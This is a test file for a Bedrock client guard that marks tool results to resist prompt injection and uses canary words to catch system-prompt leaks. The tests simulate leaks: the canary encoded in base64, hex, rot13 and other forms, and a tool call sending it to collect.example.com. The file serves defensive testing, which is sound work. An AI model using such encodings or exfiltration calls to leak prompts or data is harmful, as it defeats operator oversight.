/** What is put around the model: marks in what is sent, none in what comes back, and a canary that ends a reply. */

import {
  ConverseCommand,
  type ConverseCommandInput,
  ConverseStreamCommand,
  type ConverseStreamOutput,
} from '@aws-sdk/client-bedrock-runtime';
import { describe, expect, test } from 'vitest';
import { createAllowance } from '../../../../aws/bedrock/allowance.ts';
import { type ClientRules, guardClient } from '../../../../aws/bedrock/index.ts';
import { createScope, type InvocationScope, runInScope, type ScopeOptions } from '../../../../aws/invocation-scope.ts';
import { macOf } from '../../../../aws/mac.ts';
import { createInjectionScreen } from '../../../../core/injection/index.ts';
import { markerCharacter, markerWord } from '../../../../core/markers.ts';
import { createMemoryQuotaLedger, tokenBound } from '../../../../core/quota/index.ts';
import {
  type Answering,
  converseReply,
  fakeBedrock,
  type StreamedEvent,
  streamedReply,
  textEvents,
  type WireRequest,
} from '../../../support/bedrock.ts';

const HOUR = 3_600_000;
const NOW = 20_000 * 24 * HOUR;
const markerMac = macOf('a key of these tests, of some length');
const time = { tenant: 'acme', epoch: 20_000 };
const word = markerWord(markerMac, 'canary', time);
const former = markerWord(markerMac, 'canary', { ...time, epoch: 19_999 });
const mark = markerCharacter(markerMac, 'datamark', time);
const token = markerWord(markerMac, 'delimit', time);

const TOOLS = [{ toolSpec: { name: 'find', inputSchema: { json: {} } } }];
const resultOf = (content: readonly object[]): ConverseCommandInput['messages'] => [
  { role: 'user', content: [{ text: 'What is new?' }] },
  { role: 'assistant', content: [{ toolUse: { toolUseId: 't', name: 'find', input: {} } }] },
  { role: 'user', content: [{ toolResult: { toolUseId: 't', content: content as never } }] },
];
const RESULT = 'The pears are ripe now.';
const input = (more: Partial<ConverseCommandInput> = {}): ConverseCommandInput => ({
  modelId: 'm',
  system: [{ text: 'You are Orchard, the assistant of the pear farm.' }],
  messages: resultOf([{ text: RESULT }, { json: { note: RESULT } }]) ?? [],
  toolConfig: { tools: TOOLS },
  ...more,
});

const scopeFor = (tenant: string | undefined, options: Partial<ScopeOptions> = {}): InvocationScope => {
  const scope = createScope({ requestId: 'r', now: () => NOW, ...options });
  scope.caller = tenant === undefined ? {} : { tenant };
  return scope;
};

const setUp = (rules: ClientRules = {}, answer?: Answering) => {
  const { client, requests } = fakeBedrock(answer);
  guardClient(client, { screen: false, markerMac, maxTokens: 100, ...rules });
  const converse = (more: Partial<ConverseCommandInput> = {}, scope = scopeFor('acme')) =>
    runInScope(scope, () => client.send(new ConverseCommand(input(more))));
  const stream = async (more: Partial<ConverseCommandInput> = {}, scope = scopeFor('acme')) => {
    const events: ConverseStreamOutput[] = [];
    let error: unknown;
    try {
      const reply = await runInScope(scope, () => client.send(new ConverseStreamCommand(input(more))));
      for await (const event of reply.stream ?? []) events.push(event);
    } catch (caught) {
      error = caught;
    }
    const text = events.map((event) => event.contentBlockDelta?.delta?.text ?? '').join('');
    return { events, error, text };
  };
  return { requests, converse, stream };
};

/** The system prompt of a request on the wire, and its last turn. */
const systemOf = (request: WireRequest | undefined): string =>
  ((request?.body['system'] ?? []) as { text: string }[]).map(({ text }) => text).join('\n');
const turnsOf = (request: WireRequest | undefined): string => JSON.stringify(request?.body['messages']);

const toolEvents = (pieces: readonly string[]): readonly StreamedEvent[] => [
  ['messageStart', { role: 'assistant' }],
  ['contentBlockStart', { contentBlockIndex: 0, start: { toolUse: { toolUseId: 't', name: 'find' } } }],
  ...pieces.map(
    (piece): StreamedEvent => ['contentBlockDelta', { contentBlockIndex: 0, delta: { toolUse: { input: piece } } }],
  ),
  ['contentBlockStop', { contentBlockIndex: 0 }],
  ['messageStop', { stopReason: 'tool_use' }],
  ['metadata', { usage: { inputTokens: 10, outputTokens: 5, totalTokens: 15 } }],
];

const MODES = ['delimit', 'datamark'] as const;
const isMarked = (text: string): boolean => text.includes(mark) || text.includes(token);

describe.each(MODES)('spotlight: %s', (spotlight) => {
  test('marks what is sent and explains it, and leaves what the handler gave', async () => {
    const { converse, stream, requests } = setUp({ spotlight }, ({ path }) =>
      path.endsWith('converse-stream') ? streamedReply(textEvents(['Fine.'])) : converseReply([{ text: 'Fine.' }]),
    );
    const given = input();
    const before = structuredClone(given);
    await converse(given);
    await stream(given);
    expect(given).toEqual(before);
    expect(requests[0]?.body).toEqual(requests[1]?.body);
    const [sent] = requests;
    expect(isMarked(systemOf(sent))).toBe(true);
    expect(systemOf(sent).endsWith('You are Orchard, the assistant of the pear farm.')).toBe(true);
    const [asked, called, answered] = (sent?.body['messages'] ?? []) as unknown as object[];
    expect([asked, called]).toEqual(given.messages?.slice(0, 2));
    const signed = expect.stringContaining(spotlight === 'delimit' ? token : mark);
    expect(answered).toEqual({
      role: 'user',
      content: [{ toolResult: { toolUseId: 't', content: [{ text: signed }, { json: { note: signed } }] } }],
    });
  });

  test('takes the marks out of the reply and of the arguments of tools', async () => {
    const quote = ({ body }: WireRequest): string =>
      String(
        (body['messages'] as unknown as { content: { toolResult: { content: { text: string }[] } }[] }[])[2]?.content[0]
          ?.toolResult.content[0]?.text,
      );
    const { converse } = setUp({ spotlight }, (request) =>
      converseReply([
        { text: `It says: ${quote(request)}` },
        { toolUse: { toolUseId: 't', name: 'find', input: { q: [quote(request)], n: 1 } } },
      ]),
    );
    const { output } = await converse();
    const [said, call] = output?.message?.content ?? [];
    expect(isMarked(JSON.stringify(output))).toBe(false);
    expect(said?.text).toContain(RESULT);
    expect(call?.toolUse?.input).toEqual({ q: [expect.stringContaining(RESULT)], n: 1 });
  });

  test('takes them out of a stream, split at every character', async () => {
    let pieces: readonly string[] = [];
    let tool = false;
    const { stream, requests } = setUp({ spotlight }, () =>
      streamedReply(tool ? toolEvents(pieces) : textEvents(pieces)),
    );
    await stream();
    const quoted = JSON.stringify(JSON.parse(turnsOf(requests[0]))[2].content[0].toolResult.content[0].text).slice(
      1,
      -1,
    );
    const reply = `It says: ${JSON.parse(`"${quoted}"`)}, I think.`;
    pieces = [reply];
    const whole = (await stream()).text;
    expect(whole).toContain(RESULT);
    expect(isMarked(whole)).toBe(false);
    for (let cut = 1; cut < reply.length; cut++) {
      pieces = [reply.slice(0, cut), reply.slice(cut)];
      expect((await stream()).text).toBe(whole);
    }
    pieces = [...reply];
    expect((await stream()).text).toBe(whole);

    tool = true;
    const escaped = `{"q":"${quoted.replaceAll(mark, `\\u${mark.charCodeAt(0).toString(16)}`)}", "n": 1.0}`;
    pieces = [...escaped];
    const { events } = await stream();
    const args = events.map((event) => event.contentBlockDelta?.delta?.toolUse?.input ?? '').join('');
    expect(isMarked(args)).toBe(false);
    expect(JSON.parse(args)).toEqual({ q: expect.stringContaining(RESULT), n: 1 });
  });

  test('is screened before it is marked', async () => {
    const seen: string[] = [];
    const watcher = {
      id: 'watcher',
      channels: ['user', 'data'] as const,
      score: (text: string) => {
        seen.push(text);
        return 0;
      },
    };
    const screen = createInjectionScreen({ scorers: [watcher] });
    const { converse } = setUp({ spotlight, screen });
    await converse();
    expect(seen.join('\n')).toContain(RESULT);
    expect(isMarked(seen.join('\n'))).toBe(false);
  });

  test('is paid for: what is held is the bound of what is sent', async () => {
    const budgets = [{ name: 'day', per: 'user', unit: 'tokens', window: 'day', limit: 100_000 } as const];
    const ledger = createMemoryQuotaLedger({ budgets });
    const principal = { kind: 'user', id: 'u' } as const;
    const usedFor = async (rules: ClientRules, id: string) => {
      const reservation = await ledger.reserve([principal], { tokens: 0 }, { id, ttlMs: 60_000 });
      if (!reservation.granted) throw new Error('not granted');
      const scope = scopeFor('acme');
      let held = 0;
      scope.allowance = createAllowance({ ledger, reservation, priced: false });
      const { converse, requests } = setUp(rules, async () => {
        held = (await ledger.usage(principal))[0]?.used ?? 0;
        return converseReply([{ text: 'Fine.' }]);
      });
      const before = (await ledger.usage(principal))[0]?.used ?? 0;
      await converse({}, scope);
      await scope.allowance.settle({});
      return { held: held - before, bound: tokenBound(requests[0]?.body as never) + 100 };
    };
    const marked = await usedFor({ spotlight }, 'a');
    const plain = await usedFor({}, 'b');
    expect(marked.held).toBe(marked.bound);
    expect(plain.held).toBe(plain.bound);
    expect(marked.held).toBeGreaterThan(plain.held + 100);
  });

  test('keeps the prefix of a loop: the same sentence before there is anything to mark, and the same marks', async () => {
    const { converse, requests } = setUp({ spotlight, canary: true });
    const first = resultOf([{ text: RESULT }])?.slice(0, 1) ?? [];
    await converse({ messages: first });
    await converse({ messages: resultOf([{ text: RESULT }]) ?? [] });
    await converse({
      messages: [...(resultOf([{ text: RESULT }]) ?? []), { role: 'user', content: [{ text: 'And?' }] }],
    });
    expect(new Set(requests.map(systemOf)).size).toBe(1);
    expect(turnsOf(requests[1]).startsWith(turnsOf(requests[0]).slice(0, -1))).toBe(true);
    expect(turnsOf(requests[2]).startsWith(turnsOf(requests[1]).slice(0, -1))).toBe(true);
  });
});

test('without options nothing is marked and nothing is added', async () => {
  const { converse, requests } = setUp();
  await converse();
  const { modelId: _, ...sent } = input();
  expect(requests[0]?.body).toMatchObject(sent as object);
});

test('in monitor mode nothing is marked, and a canary that comes back is still noted', async () => {
  const { converse, requests } = setUp({ spotlight: 'datamark', canary: true }, () => converseReply([{ text: word }]));
  const scope = scopeFor('acme', { monitor: true });
  const { output } = await converse({}, scope);
  const { modelId: _, ...sent } = input();
  expect(requests[0]?.body).toEqual(sent);
  expect(output?.message?.content?.[0]?.text).toBe(word);
  expect(scope.record.metrics.get('CanariesLeaked')).toBe(1);
});

describe('the prefix', () => {
  const both: ClientRules = { spotlight: 'datamark', canary: true };
  const sentBy = async (rules: ClientRules, scope: InvocationScope): Promise<string> => {
    const { converse, requests } = setUp({ ...both, ...rules });
    await converse({}, scope);
    return JSON.stringify({ ...requests[0]?.body, requestMetadata: undefined });
  };
  const usual = () => sentBy({}, scopeFor('acme'));

  test('is byte for byte the same within an epoch, whoever of the tenant asks, in any process with the key', async () => {
    expect(await sentBy({}, scopeFor('acme', { now: () => NOW + 24 * HOUR - 1, requestId: 'other' }))).toBe(
      await usual(),
    );
  });

  test.each([
    ['in the next epoch', {}, scopeFor('acme', { now: () => NOW + 24 * HOUR })],
    ['for another tenant', {}, scopeFor('other')],
    ['for nobody', {}, scopeFor(undefined)],
    ['under another key', { markerMac: macOf('another key of these tests') }, scopeFor('acme')],
    ['in a process of its own, without keys', { markerMac: undefined }, scopeFor('acme')],
  ])('is another one %s', async (_, rules, scope) => {
    expect(await sentBy(rules as ClientRules, scope)).not.toBe(await usual());
  });

  test('changes as often as the policy says', async () => {
    const at = (hours: number) => sentBy({ markerEpochHours: 6 }, scopeFor('acme', { now: () => NOW + hours * HOUR }));
    expect(await at(5.9)).toBe(await at(0));
    expect(await at(6)).not.toBe(await at(0));
  });

  test('stays that of the beginning in an invocation that goes on into the next epoch', async () => {
    let now = NOW + 24 * HOUR - 1;
    const { converse, requests } = setUp(both);
    const scope = scopeFor('acme', { now: () => now });
    await converse({}, scope);
    now += 10_000;
    await converse({}, scope);
    expect(requests[1]?.body).toEqual(requests[0]?.body);
  });

  test('shares nothing between requests of different tenants that overlap in one client', async () => {
    const { promise: gate, resolve: open } = Promise.withResolvers<void>();
    const { converse, requests } = setUp({ ...both, protectSystemPrompt: false }, async (request) => {
      await gate;
      // The reply gives away what stands in its own prompt: each must be caught by its own canary.
      return converseReply([{ text: `Hello ${systemOf(request).slice(0, 400)}` }]);
    });
    const tenants = Array.from({ length: 8 }, (_, index) => `tenant-${index}`);
    const sent = Promise.allSettled(tenants.map((tenant) => converse({}, scopeFor(tenant))));
    open();
    for (const outcome of await sent)
      expect(outcome).toMatchObject({ status: 'rejected', reason: { code: 'output_blocked', reason: 'canary' } });
    expect(new Set(requests.map(systemOf)).size).toBe(tenants.length);
    for (const [index, tenant] of tenants.entries()) {
      const own = markerWord(markerMac, 'canary', { ...time, tenant });
      expect(
        requests.map(systemOf).filter((system) => system.includes(own)),
        `${index}`,
      ).toHaveLength(1);
    }
  });
});

const hex = (text: string): string => Buffer.from(text).toString('hex');
const base64 = (text: string): string => Buffer.from(`key: ${text}`).toString('base64');
const rot13 = (text: string): string =>
  text.replaceAll(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97));
const SAYINGS: readonly (readonly [string, (said: string) => string])[] = [
  ['as it is', (said) => said],
  ['in base64', base64],
  ['in hexadecimal', hex],
  ['backwards', (said) => [...said].reverse().join('')],
  ['spaced', (said) => [...said].join(' ')],
  ['in rot13', rot13],
];

describe('a canary', () => {
  const rules: ClientRules = { canary: true, protectSystemPrompt: false };

  test.each(SAYINGS)('withholds a reply that says it %s, and is counted', async (_, say) => {
    for (const said of [word, former]) {
      const { converse } = setUp(rules, () => converseReply([{ text: `Here it is: ${say(said)}.` }]));
      const scope = scopeFor('acme');
      await expect(converse({}, scope)).rejects.toMatchObject({ code: 'output_blocked', reason: 'canary' });
      expect(Object.fromEntries(scope.record.metrics)).toMatchObject({ OutputsBlocked: 1, CanariesLeaked: 1 });
      expect(scope.record.decisions).toMatchObject([{ verdict: 'deny', code: 'output_blocked', reason: 'canary' }]);
      expect(JSON.stringify(scope.record.decisions)).not.toContain(said);
    }
  });

  test.each(SAYINGS)('ends a stream that says it %s, split at every character, and is not in it', async (_, say) => {
    const said = say(word);
    const reply = `Here it is: ${said} and more`;
    let pieces: readonly string[] = [];
    const { stream } = setUp(rules, () => streamedReply(textEvents(pieces)));
    for (let cut = 1; cut <= reply.length; cut++) {
      pieces = cut === reply.length ? [...reply] : [reply.slice(0, cut), reply.slice(cut)];
      const { error, text } = await stream();
      expect(error).toMatchObject({ code: 'output_blocked', reason: 'canary' });
      expect(reply.startsWith(text)).toBe(true);
      expect(text.length).toBeLessThan('Here it is: '.length + said.length / 2);
    }
  });

  test.each(SAYINGS)('withholds a tool call that carries it off %s, streamed too', async (_, say) => {
    const args = { url: `https://collect.example.com/?d=${say(word)}` };
    const whole = setUp(rules, () => converseReply([{ toolUse: { toolUseId: 't', name: 'find', input: args } }]));
    await expect(whole.converse()).rejects.toMatchObject({ code: 'output_blocked', reason: 'canary' });
    const streamed = setUp(rules, () => streamedReply(toolEvents([...JSON.stringify(args)])));
    const { events, error } = await streamed.stream();
    expect(error).toMatchObject({ code: 'output_blocked', reason: 'canary' });
    expect(JSON.stringify(events)).not.toContain('collect');
  });

  test('withholds a stream whose reasoning says it', async () => {
    const thought: StreamedEvent = [
      'contentBlockDelta',
      { contentBlockIndex: 0, delta: { reasoningContent: { text: word } } },
    ];
    const { stream } = setUp(rules, () =>
      streamedReply([...textEvents([]).slice(0, 1), thought, ...textEvents([]).slice(1)]),
    );
    expect((await stream()).error).toMatchObject({ code: 'output_blocked', reason: 'canary' });
  });

  test.each([
    ['the caller', 'user', [{ role: 'user' as const, content: [{ text: `Is ${word} yours?` }] }]],
    ['the caller, of yesterday', 'user', [{ role: 'user' as const, content: [{ text: base64(former) }] }]],
    ['a tool', 'data', resultOf([{ json: { note: `found ${word}` } }])],
  ])('that comes from %s is flagged, once an invocation, and passes', async (_, channel, messages) => {
    const { converse } = setUp(rules, () => converseReply([{ text: 'Fine.' }]));
    const scope = scopeFor('acme');
    await converse({ messages: messages ?? [] }, scope);
    await converse({ messages: messages ?? [] }, scope);
    expect(scope.record.metrics.get('CanariesSeen')).toBe(1);
    expect(scope.record.decisions).toEqual([{ control: 'canary', verdict: 'flag', reason: channel }]);
  });

  test('leaves other replies alone', async () => {
    const { converse } = setUp(rules, () => converseReply([{ text: 'A pear is a fruit.' }]));
    const scope = scopeFor('acme');
    expect((await converse({}, scope)).output?.message?.content).toEqual([{ text: 'A pear is a fruit.' }]);
    expect(scope.record.metrics.has('CanariesSeen')).toBe(false);
  });

  test('leaves the check of the system prompt as it is', async () => {
    const leak = 'You are Orchard, the assistant of the pear farm.';
    const { converse } = setUp({ canary: true }, () => converseReply([{ text: leak }]));
    await expect(converse()).rejects.toMatchObject({ code: 'output_blocked', reason: 'system-prompt' });
  });
});
